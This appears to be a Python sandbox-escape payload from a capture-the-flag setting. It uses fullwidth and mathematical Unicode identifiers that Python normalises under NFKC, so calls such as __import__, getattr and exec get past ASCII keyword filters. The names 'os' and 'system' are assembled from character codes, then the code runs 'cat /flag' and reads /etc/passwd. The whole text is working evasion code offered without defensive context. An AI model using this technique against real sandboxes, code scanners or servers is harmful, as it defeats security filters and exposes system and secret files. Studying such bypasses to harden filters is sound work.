# technique: NFKC-normalised fullwidth / mathematical identifiers evade ASCII keyword filters
# The parser normalises these identifiers, string contents are built separately.
m = __ｉｍｐｏｒｔ__(chr(111) + chr(115))
𝐫𝐮𝐧 = ｇｅｔａｔｔｒ(m, "".join(chr(c) for c in (115, 121, 115, 116, 101, 109)))
𝐫𝐮𝐧("c" + "at /fl" + "ag")
ｅｘｅｃ("pr" + "int(op" + "en('/etc/pa" + "sswd').read())")
